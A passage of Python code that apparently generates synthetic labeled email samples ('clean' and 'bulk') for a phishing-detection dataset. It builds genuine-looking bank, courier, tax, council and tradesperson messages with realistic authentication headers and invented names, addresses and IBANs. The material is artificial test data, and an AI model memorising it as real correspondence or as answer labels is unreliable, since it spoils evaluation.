@sample("clean", "b12-council-tax-missed-instalment-gov-uk.eml",
        "A district council's Council Tax team writes from its own .gov.uk mailbox (Microsoft 365, DMARC pass) to a "
        "btinternet.com resident about a missed instalment, quoting the account number and pointing only to the "
        "council's own website and phone line")
def _(name):
    sent = when("Tue, 12 Nov 2024 10:44:09 +0000")
    rcpt = "d.thompson47@btinternet.com"
    dom = "harrowden.gov.uk"
    sender = f"counciltax@{dom}"
    hop, route = m365_route(name, dom, "harrowdendc.onmicrosoft.com", sent, region="EUR02", az="DB5")
    a = Auth(sender, dom, "pass", "pass", dom, "selector1", "pass", "reject")
    acct = digits(name, "acct", 8)
    plain = f"""Dear Mr Thompson,

Council Tax account {acct} – 14 Orchard Close, Harrowden

Our records show that the instalment of £176.00 due on 1 November 2024 has not yet been received.
If you have paid in the last few days, please accept our thanks and ignore this reminder.

If not, please pay the missed instalment within 7 days to keep your right to pay by instalments.
You can pay online through the Council Tax pages of our website, www.harrowden.gov.uk/counciltax,
or by phoning our automated payment line on the number printed on your bill. We never ask for card
details by email.

If you are having difficulty paying, please contact us as soon as possible – we may be able to spread
the remaining instalments or check whether you qualify for a discount or Council Tax Reduction.

Yours sincerely,

Revenues Team
Harrowden District Council
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Arial,sans-serif;font-size:11pt">
<p>Dear Mr Thompson,</p>
<p><b>Council Tax account {acct} – 14 Orchard Close, Harrowden</b></p>
<p>Our records show that the instalment of £176.00 due on 1 November 2024 has not yet been received. If you have paid in the last few days, please accept our thanks and ignore this reminder.</p>
<p>If not, please pay the missed instalment within 7 days to keep your right to pay by instalments. You can pay online through the Council Tax pages of our website, <a href="https://www.harrowden.gov.uk/counciltax">www.harrowden.gov.uk/counciltax</a>, or by phoning our automated payment line on the number printed on your bill. We never ask for card details by email.</p>
<p>If you are having difficulty paying, please contact us as soon as possible – we may be able to spread the remaining instalments or check whether you qualify for a discount or Council Tax Reduction.</p>
<p>Yours sincerely,</p>
<p>Revenues Team<br>Harrowden District Council</p></div></body></html>
"""
    subject = f"Council Tax reminder – account {acct}"
    headers = [
        *std(addr("Harrowden DC Council Tax", sender), rcpt, subject, rfc1(sent, "+0000"),
             f"DB5P190MB{hexid(name, 'mid', 28, True)}@DB5P190MB{digits(name, 'mb', 4)}.EURP190.PROD.OUTLOOK.COM"),
        *m365_client_headers(name, dom, sent, subject, lang="en-GB"),
    ]
    body = Multi("alternative", f"_000_DB5P190MB{hexid(name, 'bnd', 24, True)}_", [text(plain), text(html, "html")])
    return assemble(name, "bt", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("clean", "b12-plombier-facture-intervention-ovh.eml",
        "A plumber sends an orange.fr customer the invoice for a water-heater repair as a PDF from his own domain on "
        "OVH (SPF/DKIM pass), written in Thunderbird; the IBAN is the one printed on his usual invoices and he offers "
        "cheque as well")
def _(name):
    sent = when("Fri, 26 Jan 2024 18:21:50 +0100")
    rcpt = "christiane.morvan@orange.fr"
    dom = "plomberie-marchand.fr"
    sender = f"contact@{dom}"
    hop, route = ovh_route(name, sent, "90.38.112.41", sender)
    sel = f"ovhmo{digits(name, 'sel', 7)}-selector1"
    a = Auth(sender, dom, "pass", "pass", dom, sel, "none", "absent")
    num = f"F2024-{digits(name, 'num', 3)}"
    pdf = pdf_doc(
        [latin1("Plomberie Marchand - EI Yannick Marchand"), latin1("12 rue des Tanneurs, 56000 Vannes - SIRET 823 419 562 00017"), "",
         latin1(f"FACTURE {num} du 26/01/2024"), latin1("Client : Mme Christiane Morvan, 5 impasse des Mouettes, 56000 Vannes"), "",
         latin1("Intervention du 24/01/2024 : remplacement du groupe de sécurité et du"),
         latin1("thermostat du chauffe-eau 200 L"), "",
         latin1("Groupe de sécurité 3/4 ...................... 38,50 EUR HT"),
         latin1("Thermostat à canne ........................... 29,90 EUR HT"),
         latin1("Main d'oeuvre 1,5 h ............................ 82,50 EUR HT"),
         latin1("Déplacement ..................................... 25,00 EUR HT"), "",
         latin1("Total HT 175,90 EUR - TVA 10 % 17,59 EUR - Total TTC 193,49 EUR"), "",
         latin1("Règlement à réception par chèque ou virement :"),
         latin1("IBAN FR76 1600 6210 0000 4587 1236 027 - BIC AGRIFRPP866")],
        f"Facture {num}", producer="LibreOffice 7.5", creator="Writer", created="20240126181500+01'00'")
    plain = f"""Bonjour Madame Morvan,

Comme convenu mercredi, voici la facture de l'intervention sur le chauffe-eau (groupe de sécurité et
thermostat remplacés). Vous pouvez régler par chèque à l'ordre de Plomberie Marchand ou par virement,
les coordonnées sont en bas de la facture.

N'hésitez pas à me rappeler si le chauffe-eau refait des siennes.

Bonne soirée,

Yannick Marchand
Plomberie Marchand – 06 71 24 58 93
"""
    headers = [
        f"Message-ID: <{uuid(name, 'mid')}@{dom}>",
        f"Date: {rfc(sent)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: fr",
        f"To: {addr('Christiane Morvan', rcpt)}",
        f"From: {addr('Plomberie Marchand', sender)}",
        f"Subject: {enc('Facture ' + num + ' – chauffe-eau', 'Q')}",
        *ovh_trailer(name),
    ]
    body = Multi("mixed", f"------------{alnum(name, 'bnd', 24)}", [
        text(plain, encoding="8bit"),
        attachment("application/pdf", f"Facture_{num}.pdf", pdf),
    ])
    return assemble(name, "orange", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("clean", "b12-sanitaer-angebot-badsanierung-strato.eml",
        "A plumbing and heating firm sends a t-online.de customer its quote for a bathroom renovation as a PDF, from "
        "its own domain on Strato (SPF/DKIM pass), following an on-site visit; reply or phone to accept")
def _(name):
    sent = when("Wed, 17 Apr 2024 16:34:02 +0200")
    rcpt = "h.wiegand@t-online.de"
    dom = "sanitaer-hoffmann-bonn.de"
    sender = f"info@{dom}"
    hop, route = strato_route(name, sent, "79.214.33.150", dom, rcpt)
    a = Auth(sender, dom, "pass", "pass", dom, "strato-dkim-0002", "none", "absent")
    num = f"A-2024-{digits(name, 'num', 4)}"
    pdf = pdf_doc(
        [latin1("Sanitär Hoffmann GmbH - Heizung, Sanitär, Bäder"), latin1("Königswinterer Str. 118, 53227 Bonn"), "",
         latin1(f"ANGEBOT {num} vom 17.04.2024"), latin1("Bauvorhaben: Badsanierung OG, Familie Wiegand"), "",
         latin1("Pos. 1  Demontage Altbestand, Entsorgung ............ 1.180,00 EUR"),
         latin1("Pos. 2  Bodengleiche Dusche inkl. Ablaufrinne ....... 2.940,00 EUR"),
         latin1("Pos. 3  Wand-WC mit Vorwandelement .................. 1.260,00 EUR"),
         latin1("Pos. 4  Waschtisch mit Unterschrank ................. 1.090,00 EUR"),
         latin1("Pos. 5  Handtuchheizkörper, Anschluss ................. 640,00 EUR"), "",
         latin1("Summe netto 7.110,00 EUR - MwSt. 19 % 1.350,90 EUR - Gesamt 8.460,90 EUR"), "",
         latin1("Ausführung nach Absprache ab KW 24. Angebot gültig 6 Wochen.")],
        f"Angebot {num}", producer="pdfTeX-1.40.25", created="20240417162800+02'00'")
    plain = f"""Sehr geehrter Herr Wiegand,

vielen Dank für den Termin am Montag. Anbei erhalten Sie wie besprochen unser Angebot {num} für die
Sanierung Ihres Bades im Obergeschoss. Die Fliesenarbeiten sind, wie vereinbart, nicht enthalten.

Bei Fragen zu einzelnen Positionen rufen Sie mich gern an. Wenn Sie uns beauftragen möchten, genügt eine
kurze Antwort auf diese E-Mail; wir melden uns dann zur Terminabstimmung.

Mit freundlichen Grüßen

Stefan Hoffmann
Sanitär Hoffmann GmbH
Königswinterer Str. 118 · 53227 Bonn
Geschäftsführer: Stefan Hoffmann · HRB 19872 AG Bonn
"""
    headers = [
        f"Message-ID: <{uuid(name, 'mid')}@{dom}>",
        f"Date: {rfc(sent)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: de-DE",
        f"To: {addr('Herbert Wiegand', rcpt)}",
        f"From: {addr('Sanitär Hoffmann GmbH', sender)}",
        f"Subject: {enc('Ihr Angebot ' + num + ' – Badsanierung', 'Q')}",
    ]
    body = Multi("mixed", f"------------{alnum(name, 'bnd', 24)}", [
        text(plain, encoding="8bit"),
        attachment("application/pdf", f"Angebot_{num}.pdf", pdf),
    ])
    return assemble(name, "tonline", rcpt, later(sent, 3), hop, a, route, headers, body)


@sample("clean", "b12-contabilista-irs-documentos-workspace.eml",
        "A Portuguese certified accountant (Google Workspace, SPF/DKIM/DMARC pass) reminds a sapo.pt client which "
        "documents she needs for the 2023 IRS return and says explicitly not to send the Portal das Finanças password")
def _(name):
    sent = when("Wed, 03 Apr 2024 09:15:27 +0100")
    rcpt = "jose.almeida55@sapo.pt"
    dom = "carvalho-contabilidade.pt"
    sender = f"ana.carvalho@{dom}"
    hop, route = workspace_route(name, dom, sent)
    a = Auth(sender, dom, "pass", "pass", dom, "google", "pass", "quarantine")
    plain = """Bom dia Sr. José,

Como nos anos anteriores, vou tratar da entrega da sua declaração de IRS de 2023, que pode ser entregue
entre 1 de abril e 30 de junho.

Para isso preciso que me envie ou deixe no escritório:
- a declaração anual da entidade patronal, se ainda a tiver em papel;
- os recibos da renda da garagem (se os emitiu fora do Portal);
- a confirmação de que os dependentes se mantêm os mesmos.

As faturas de saúde e educação já consigo consultar com a minha credencial de contabilista certificada,
por isso não precisa de me enviar a sua senha do Portal das Finanças – por favor, nunca a envie por email,
nem a mim nem a ninguém.

Logo que tenha a simulação preparada, envio-lha para aprovar antes da submissão.

Com os melhores cumprimentos,
Ana Rita Carvalho
Contabilista Certificada n.º 84213
Carvalho Contabilidade, Lda. – Rua de Cedofeita 210, Porto
"""
    html = "<div dir=\"ltr\">" + "".join(
        f"<div>{line if line else '<br>'}</div>" for line in plain.replace("&", "&amp;").split("\n")) + "</div>\n"
    headers = [
        "MIME-Version: 1.0",
        f"From: {addr('Ana Rita Carvalho', sender)}",
        f"Date: {rfc(sent)}",
        f"Message-ID: <CA+{alnum(name, 'gmid', 40)}@mail.gmail.com>",
        f"Subject: {enc('IRS 2023 – documentos em falta', 'Q')}",
        f"To: {addr('José Almeida', rcpt)}",
    ]
    return assemble(name, "sapo", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"000000000000{hexid(name, 'gb', 16)}"))


# --------------------------------------------------------------------------------------------
# LEGITIMATE — bulk (notifications from no-reply addresses, newsletters, list mail)
# --------------------------------------------------------------------------------------------

def corp_route(name: str, host: str, ip: str, dom: str, sel: str, dt: datetime, rcpt: str, tz: str,
               zone: str, fields: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type") -> tuple[Hop, list[str]]:
    inner = f"app{int(hexid(name, 'app', 1), 16) % 8 + 1:02d}.int.{dom}"
    lines = [
        dkim(name, dom, sel, dt, fields),
        f"Received: from {inner} ({inner} [10.{int(hexid(name, 'i1', 2), 16) % 250}.{int(hexid(name, 'i2', 2), 16) % 250}.{int(hexid(name, 'i3', 2), 16) % 250}])\n"
        f"\tby {host} (Postfix) with ESMTP id {hexid(name, 'cpf', 11, True)}\n\tfor <{rcpt}>; {rfc1(dt, tz, zone)}",
    ]
    return Hop(host, ip), lines


def sfmc_route(name: str, dom: str, dt: datetime) -> tuple[Hop, list[str], str]:
    n = 10 + int(hexid(name, "sfmc", 2), 16) % 80
    host = f"mta{n}.{dom}"
    ip = f"13.111.{int(hexid(name, 'sfip', 2), 16) % 250}.{n}"
    env = f"bounce-{digits(name, 'b1', 2)}_HTML-{digits(name, 'b2', 9)}-{digits(name, 'b3', 6)}-{digits(name, 'b4', 7)}-{digits(name, 'b5', 3)}@bounce.{dom}"
    lines = [dkim(name, dom, "200608", dt, "From:To:Subject:Date:List-Unsubscribe:MIME-Version:Reply-To:\n\tList-ID:X-CSA-Complaints:Message-ID:Content-Type")]
    return Hop(host, ip), lines, env


def amazon_route(name: str, dom: str, dt: datetime) -> tuple[Hop, list[str], str]:
    n = 10 + int(hexid(name, "amz", 2), 16) % 90
    host = f"a{n}-{int(hexid(name, 'amz2', 2), 16) % 200}.smtp-out.eu-west-1.amazonses.com"
    ip = f"54.240.{n}.{int(hexid(name, 'amz2', 2), 16) % 200}"
    env = f"{dt:%Y%m%d%H%M%S}{hexid(name, 'amzenv', 32)}@bounces.{dom}"
    lines = [
        dkim(name, dom, alnum(name, "amzsel", 32, "abcdefghijklmnopqrstuvwxyz234567"), dt,
             "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type", c="simple/simple", keybits=1024, label="a"),
        dkim(name, "amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv", dt,
             "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", c="simple/simple", keybits=1024, label="b"),
    ]
    return Hop(host, ip), lines, env


def sendgrid_route(name: str, dom: str, dt: datetime, rcpt: str) -> tuple[Hop, list[str], str, str]:
    uid = digits(name, "sguid", 8)
    env = f"bounces+{uid}-{hexid(name, 'sgb', 4)}-{rcpt.replace('@', '=')}@em{digits(name, 'em', 4)}.{dom}"
    hop = Hop(f"o{digits(name, 'o', 1)}.ptr{digits(name, 'ptr', 4)}.{dom}",
              f"167.89.{int(hexid(name, 'sgip', 2), 16) % 250}.{int(hexid(name, 'sgip2', 2), 16) % 250}")
    fid = f"filterdrecv-{hexid(name, 'fd', 10)}-{alnum(name, 'fd2', 5).lower()}"
    lines = [
        f"Received: by {fid} with SMTP id {fid}-1-{hexid(name, 'fd3', 8, True)}-{hexid(name, 'fd4', 2, True)}\n"
        f"        {dt:%Y-%m-%d %H:%M:%S}.{digits(name, 'ms', 9)} +0000 UTC m=+{digits(name, 'm', 7)}.{digits(name, 'm2', 9)}",
        f"Received: from {uid} (unknown)\n\tby geopod-ismtpd-{int(hexid(name, 'geo', 2), 16) % 40} (SG) with HTTP\n"
        f"\tid {alnum(name, 'sgid', 22)}\n\t{rfc1(dt, '+0000', 'UTC')}",
        dkim(name, dom, "s1", dt, "content-transfer-encoding:content-type:from:mime-version:subject:\n\tx-feedback-id:to:cc:content-type:from:subject:to", label="1"),
    ]
    return hop, lines, env, uid


@sample("bulk", "b12-sparkasse-postfach-neues-dokument.eml",
        "Sparkasse Hannover notifies a t-online.de customer from noreply@sparkasse-hannover.de (DKIM/SPF/DMARC pass) "
        "that a new statement is in the electronic mailbox; it says to log in as usual in the app and never asks for "
        "PIN/TAN, the only link is the bank's home page")
def _(name):
    sent = when("Mon, 02 Sep 2024 05:12:40 +0200")
    rcpt = "manfred.ziegler@t-online.de"
    dom = "sparkasse-hannover.de"
    sender = f"noreply@{dom}"
    hop, route = corp_route(name, f"mailout2.{dom}", "62.181.137.54", dom, "fi2024", sent, rcpt, "+0200", "CEST")
    a = Auth(sender, dom, "pass", "pass", dom, "fi2024", "pass", "reject")
    plain = """Sparkasse Hannover

Guten Tag,

in Ihrem elektronischen Postfach liegt ein neues Dokument für Sie bereit:
Kontoauszug Nr. 8/2024 zum Girokonto.

Sie finden es, wenn Sie sich wie gewohnt in der App "Sparkasse" oder im Online-Banking anmelden,
unter "Postfach".

Bitte beachten Sie: Wir fordern Sie niemals per E-Mail auf, Zugangsdaten, PIN oder TAN einzugeben oder
eine App neu zu aktivieren.

Freundliche Grüße
Ihre Sparkasse Hannover

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht darauf.
Sparkasse Hannover · Raschplatz 4 · 30161 Hannover · www.sparkasse-hannover.de
"""
    html = """<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#000">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:16px 0;border-bottom:3px solid #ff0000;font-size:20px;color:#ff0000"><b>Sparkasse Hannover</b></td></tr>
<tr><td style="padding:18px 0;line-height:1.5">
<p>Guten Tag,</p>
<p>in Ihrem elektronischen Postfach liegt ein neues Dokument für Sie bereit:<br><b>Kontoauszug Nr. 8/2024 zum Girokonto.</b></p>
<p>Sie finden es, wenn Sie sich wie gewohnt in der App „Sparkasse“ oder im Online-Banking anmelden, unter „Postfach“.</p>
<p style="background:#f3f3f3;padding:10px">Bitte beachten Sie: Wir fordern Sie niemals per E-Mail auf, Zugangsdaten, PIN oder TAN einzugeben oder eine App neu zu aktivieren.</p>
<p>Freundliche Grüße<br>Ihre Sparkasse Hannover</p>
<p style="font-size:11px;color:#666">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht darauf.<br>
Sparkasse Hannover · Raschplatz 4 · 30161 Hannover · <a href="https://www.sparkasse-hannover.de" style="color:#666">www.sparkasse-hannover.de</a></p>
</td></tr></table></body></html>
"""
    headers = std(addr("Sparkasse Hannover", sender), rcpt, "Neues Dokument in Ihrem elektronischen Postfach", rfc(sent),
                  f"{hexid(name, 'mid', 20)}.{digits(name, 'mid2', 6)}@{dom}", "Auto-Submitted: auto-generated")
    return assemble(name, "tonline", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html), spam="bulk")


@sample("bulk", "b12-ing-jaaroverzicht-klaar-in-app.eml",
        "ING Nederland tells a ziggo.nl customer through its Salesforce Marketing Cloud domain email.ing.nl "
        "(DKIM/SPF/DMARC pass) that the 2023 annual statement is ready in the ING app; links only to ing.nl pages")
def _(name):
    sent = when("Tue, 20 Feb 2024 09:30:11 -0600")
    rcpt = "r.vandijk@ziggo.nl"
    dom = "email.ing.nl"
    hop, route, env = sfmc_route(name, dom, sent)
    a = Auth(env, "ing.nl", "pass", "pass", dom, "200608", "pass", "reject")
    plain = """ING

Uw Jaaroverzicht 2023 staat klaar

Beste heer Van Dijk,

Uw Jaaroverzicht 2023 staat voor u klaar. Hierin vindt u onder andere het saldo van uw rekeningen op
31 december 2023. Handig voor uw aangifte inkomstenbelasting.

U vindt het overzicht in de ING App onder Profiel > Documenten, of in Mijn ING.

Wij vragen u nooit via e-mail om in te loggen, uw pincode of inlogcodes door te geven of een pas op te sturen.

Met vriendelijke groet,
ING

Meer informatie: https://www.ing.nl/particulier/klantenservice
"""
    html = """<html><body style="margin:0;font-family:Arial,sans-serif;color:#333">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:18px;color:#ff6200;font-size:26px"><b>ING</b></td></tr>
<tr><td style="padding:0 18px 18px;font-size:15px;line-height:1.5">
<h2 style="color:#ff6200;font-size:20px">Uw Jaaroverzicht 2023 staat klaar</h2>
<p>Beste heer Van Dijk,</p>
<p>Uw Jaaroverzicht 2023 staat voor u klaar. Hierin vindt u onder andere het saldo van uw rekeningen op 31 december 2023. Handig voor uw aangifte inkomstenbelasting.</p>
<p>U vindt het overzicht in de <b>ING App</b> onder Profiel &gt; Documenten, of in Mijn ING.</p>
<p style="font-size:13px;color:#696969">Wij vragen u nooit via e-mail om in te loggen, uw pincode of inlogcodes door te geven of een pas op te sturen.</p>
<p>Met vriendelijke groet,<br>ING</p>
<p style="font-size:12px"><a href="https://www.ing.nl/particulier/klantenservice" style="color:#525199">Klantenservice</a> &middot; <a href="https://www.ing.nl/privacy" style="color:#525199">Privacy</a></p>
</td></tr></table></body></html>
"""
    headers = [
        f"From: {addr('ING', 'noreply@ing.nl')}",
        f"To: {rcpt}",
        "Subject: Uw Jaaroverzicht 2023 staat klaar",
        f"Date: {rfc(sent)}",
        f"List-Unsubscribe: <mailto:leave-{hexid(name, 'lv', 40)}@{dom}>",
        "Reply-To: ING <reply-noreply@email.ing.nl>",
        f"x-job: {digits(name, 'job1', 6)}_{digits(name, 'job2', 7)}",
        f"Message-ID: <{uuid(name, 'mid')}@atl1s07mta{digits(name, 'mta', 4)}.xt.local>",
        "X-SFMC-Stack: 50",
        "X-CSA-Complaints: csa-complaints@eco.de",
    ]
    return assemble(name, "ziggo", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-barclays-statement-ready-adobe-campaign.eml",
        "Barclays tells a sky.com customer from its Adobe Campaign domain email.barclays.co.uk (DKIM/SPF/DMARC pass) "
        "that a new statement is available and to view it in the Barclays app; no login link, only barclays.co.uk help pages")
def _(name):
    sent = when("Thu, 06 Jun 2024 07:02:18 +0000")
    rcpt = "stephen.clarke@sky.com"
    dom = "email.barclays.co.uk"
    n = 100 + int(hexid(name, "r", 2), 16) % 100
    hop = Hop(f"r{n}.{dom}", f"130.248.{170 + n % 20}.{n}")
    env = f"barclays@{dom}"
    a = Auth(env, dom, "pass", "pass", dom, "barclays", "pass", "reject")
    route = [
        dkim(name, dom, "barclays", sent, "From:Subject:Date:To:MIME-Version:Message-ID:List-Unsubscribe:\n\t Content-Type"),
        f"X-MSFBL: {b64(name, 'msfbl', 44)}=|{b64(name, 'msfbl2', 160)}",
        f"Received: from [10.1.1.{int(hexid(name, 'ad', 1), 16)}] ([10.1.1.{int(hexid(name, 'ad', 1), 16)}:{digits(name, 'port', 5)}] helo=r{n}.{dom}) "
        f"by irl1-prod1-mta-i-{hexid(name, 'mta', 17)} (envelope-from <{env}>) (ecelerity 4.4.1.20033 r(msys-ecelerity:tags/4.4.1.0^0)) "
        f"with ESMTP id {hexid(name, 'ec1', 2, True)}/{hexid(name, 'ec2', 2, True)}-{digits(name, 'ec3', 5)}-{hexid(name, 'ec4', 8, True)}; {rfc1(sent, '+0000')}",
    ]
    plain = """Barclays

Your statement is ready

Hello Mr Clarke,

Your latest statement for your Barclays Bank Account ending 4417 is now available.
To view it, log in to the Barclays app and go to Documents, or use Online Banking as you normally do.

We'll never ask you to log in or give us your passcode, PINsentry codes or card details through a link
in an email.

Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated by the Financial
Conduct Authority and the Prudential Regulation Authority (Financial Services Register No. 759676).
Registered in England. Registered No. 9740322. Registered Office: 1 Churchill Place, London E14 5HP.
"""
    html = """<html><body style="margin:0;background:#f4f4f4;font-family:Arial,sans-serif">
<table width="600" align="center" style="background:#fff" cellpadding="0" cellspacing="0"><tr><td style="background:#00395d;color:#fff;padding:16px 20px;font-size:20px"><b>BARCLAYS</b></td></tr>
<tr><td style="padding:22px 20px;font-size:15px;color:#333;line-height:1.5">
<h2 style="font-size:20px;color:#00395d">Your statement is ready</h2>
<p>Hello Mr Clarke,</p>
<p>Your latest statement for your Barclays Bank Account ending 4417 is now available. To view it, log in to the Barclays app and go to <b>Documents</b>, or use Online Banking as you normally do.</p>
<p style="background:#eef6fb;padding:10px;font-size:13px">We'll never ask you to log in or give us your passcode, PINsentry codes or card details through a link in an email.</p>
<p style="font-size:12px"><a href="https://www.barclays.co.uk/help/" style="color:#007eb6">Help and support</a> &middot; <a href="https://www.barclays.co.uk/fraud-and-scams/" style="color:#007eb6">Fraud and scams</a></p>
<p style="font-size:10px;color:#777">Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority (Financial Services Register No. 759676). Registered in England. Registered No. 9740322. Registered Office: 1 Churchill Place, London E14 5HP.</p>
</td></tr></table></body></html>
"""
    headers = [
        f"From: \"Barclays\" <no-reply@{dom}>",
        "Subject: Your statement is ready",
        f"Date: {rfc(sent, '+0000').replace('+0000', 'GMT')}",
        f"To: <{rcpt}>",
        "MIME-Version: 1.0",
        "X-mailer: nlserver, Build 8.6.4",
        f"Message-ID: <NM{hexid(name, 'nm', 17, True)}barclays_mid_prod1@{dom}>",
        f"List-Unsubscribe: <mailto:{env}?subject=unsubscribe%3CNM{hexid(name, 'nm', 17, True)}barclays_mid_prod1@{dom}%3E>",
        "Precedence: Bulk",
    ]
    return assemble(name, "sky", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-colissimo-livraison-prevue-notification.eml",
        "Colissimo's genuine delivery notice from noreply@notif-colissimo-laposte.info (La Poste's notification "
        "domain, DKIM/SPF/DMARC pass) to an sfr.fr customer: parcel from a named shop arrives tomorrow, tracking "
        "links to laposte.fr, and a reminder that Colissimo never asks for fees by e-mail or SMS")
def _(name):
    sent = when("Wed, 20 Mar 2024 16:44:05 +0100")
    rcpt = "m.perrin44@sfr.fr"
    dom = "notif-colissimo-laposte.info"
    sender = f"noreply@{dom}"
    hop, route = corp_route(name, f"mta{int(hexid(name, 'mta', 1), 16) % 6 + 1}.{dom}", "185.31.40.82", dom, "colissimo", sent, rcpt, "+0100", "CET")
    a = Auth(f"bounce@{dom}", dom, "pass", "pass", dom, "colissimo", "pass", "reject")
    colis = f"6A{digits(name, 'colis', 11)}"
    url = f"https://www.laposte.fr/outils/suivre-vos-envois?code={colis}"
    plain = f"""Colissimo

Votre colis arrive demain

Bonjour,

Votre colis n° {colis} envoyé par CYCLES DU LITTORAL sera livré demain, jeudi 21 mars, à votre domicile.

Suivre mon colis : {url}

Vous n'êtes pas disponible ? Vous pouvez choisir une autre date ou un point de retrait depuis la page de suivi.

Important : Colissimo ne vous demande jamais de payer des frais de livraison ou de douane par e-mail ou par SMS.

Ceci est un message automatique, merci de ne pas y répondre.
"""
    html = f"""<html><body style="margin:0;background:#f3f3f3;font-family:Arial,sans-serif">
<table width="600" align="center" style="background:#fff" cellpadding="0" cellspacing="0">
<tr><td style="background:#ffd200;padding:14px 20px;color:#00205b;font-size:22px"><b>Colissimo</b></td></tr>
<tr><td style="padding:22px 20px;font-size:15px;color:#333;line-height:1.5">
<h2 style="font-size:20px;color:#00205b">Votre colis arrive demain</h2>
<p>Bonjour,</p>
<p>Votre colis n° <b>{colis}</b> envoyé par <b>CYCLES DU LITTORAL</b> sera livré demain, jeudi 21 mars, à votre domicile.</p>
<p><a href="{url}" style="background:#00205b;color:#fff;padding:11px 22px;border-radius:22px;text-decoration:none">Suivre mon colis</a></p>
<p>Vous n'êtes pas disponible ? Vous pouvez choisir une autre date ou un point de retrait depuis la page de suivi.</p>
<p style="background:#fff4cc;padding:10px;font-size:13px"><b>Important :</b> Colissimo ne vous demande jamais de payer des frais de livraison ou de douane par e-mail ou par SMS.</p>
<p style="font-size:11px;color:#888">Ceci est un message automatique, merci de ne pas y répondre.</p>
</td></tr></table></body></html>
"""
    headers = std(addr("Colissimo", sender), rcpt, "Votre colis arrive demain", rfc(sent),
                  f"{uuid(name, 'mid')}@{dom}", "Auto-Submitted: auto-generated")
    return assemble(name, "sfr", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-dhl-paket-ankuendigung-morgen.eml",
        "DHL Paket's real delivery announcement from noreply@dhl.de (DKIM/SPF/DMARC pass) to a gmx.de customer: "
        "parcel from a named online shop arrives tomorrow, tracking and redirect links go to dhl.de")
def _(name):
    sent = when("Mon, 11 Nov 2024 18:05:37 +0100")
    rcpt = "tobias.engel84@gmx.de"
    dom = "dhl.de"
    sender = f"noreply@{dom}"
    hop, route = corp_route(name, "mailout1.dhl.de", "165.72.200.31", dom, "dhl2023", sent, rcpt, "+0100", "CET")
    a = Auth(f"bounce@mail.{dom}", dom, "pass", "pass", dom, "dhl2023", "pass", "reject")
    track = f"00340434{digits(name, 'trk', 12)}"
    url = f"https://www.dhl.de/de/privatkunden/dhl-sendungsverfolgung.html?piececode={track}"
    plain = f"""DHL Paket

Ihre DHL Sendung kommt morgen

Hallo Tobias Engel,

Ihre Sendung von Zalando SE (Sendungsnummer {track}) wird voraussichtlich morgen, Dienstag, 12.11.2024,
zwischen 10:45 und 14:15 Uhr zugestellt.

Sendung verfolgen: {url}

Sie sind nicht zu Hause? Über die Sendungsverfolgung können Sie einen Ablageort oder Nachbarn festlegen.

Ihr DHL Paket Team
Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht.
Deutsche Post AG · Charles-de-Gaulle-Straße 20 · 53113 Bonn
"""
    html = f"""<html><body style="margin:0;font-family:Delivery,Arial,sans-serif;color:#333">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#ffcc00;padding:16px 20px;color:#d40511;font-size:24px;font-weight:bold;font-style:italic">DHL</td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:1.5">
<h2 style="font-size:20px">Ihre DHL Sendung kommt morgen</h2>
<p>Hallo Tobias Engel,</p>
<p>Ihre Sendung von <b>Zalando SE</b> (Sendungsnummer {track}) wird voraussichtlich morgen, Dienstag, 12.11.2024, zwischen <b>10:45 und 14:15 Uhr</b> zugestellt.</p>
<p><a href="{url}" style="background:#d40511;color:#fff;padding:10px 22px;text-decoration:none">Sendung verfolgen</a></p>
<p>Sie sind nicht zu Hause? Über die Sendungsverfolgung können Sie einen Ablageort oder Nachbarn festlegen.</p>
<p style="font-size:11px;color:#777">Ihr DHL Paket Team · Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht.<br>Deutsche Post AG · Charles-de-Gaulle-Straße 20 · 53113 Bonn · <a href="https://www.dhl.de/de/toolbar/footer/datenschutz.html" style="color:#777">Datenschutz</a></p>
</td></tr></table></body></html>
"""
    headers = std(addr("DHL Paket", sender), rcpt, "Ihre DHL Sendung kommt morgen", rfc(sent), f"{uuid(name, 'mid')}@dhl.de",
                  "Auto-Submitted: auto-generated")
    return assemble(name, "gmx", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-impots-gouv-nouveau-document-espace.eml",
        "The DGFiP's genuine notice from ne-pas-repondre@dgfip.finances.gouv.fr (DKIM/SPF/DMARC pass) to a free.fr "
        "taxpayer: the 2024 tax notice is in the online personal space; it names no amount to claim and only points "
        "to impots.gouv.fr")
def _(name):
    sent = when("Wed, 24 Jul 2024 06:31:02 +0200")
    rcpt = "sandrine.riou@free.fr"
    dom = "dgfip.finances.gouv.fr"
    sender = f"ne-pas-repondre@{dom}"
    hop, route = corp_route(name, f"smtp-out{int(hexid(name, 'so', 1), 16) % 4 + 1}.{dom}", "145.242.11.76", dom, "dgfip", sent, rcpt, "+0200", "CEST")
